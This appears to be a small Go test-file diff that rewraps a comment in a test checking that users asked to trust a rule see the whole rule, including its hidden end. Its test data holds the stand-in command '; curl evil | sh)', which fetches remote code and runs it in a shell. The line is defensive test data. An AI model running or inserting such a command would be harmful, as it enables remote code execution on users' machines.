@@ -213,7 +213,8 @@ func TestAFileWithAnUnreadableRuleIsNotTrusted(t *testing.T) {
 	}
 }
 
-// Who is asked to trust a rule sees all of it, whatever stands before its end; of one that is longer still they are told so.
+// Who is asked to trust a rule sees all of it, whatever stands before its end; of one that is longer still they are
+// told so.
 func TestTrustShowsWholeRules(t *testing.T) {
 	w := clitest.New(t)
 	for filler, want := range map[int]string{600: "; curl evil | sh)", 9000: "which goes on: read "} {
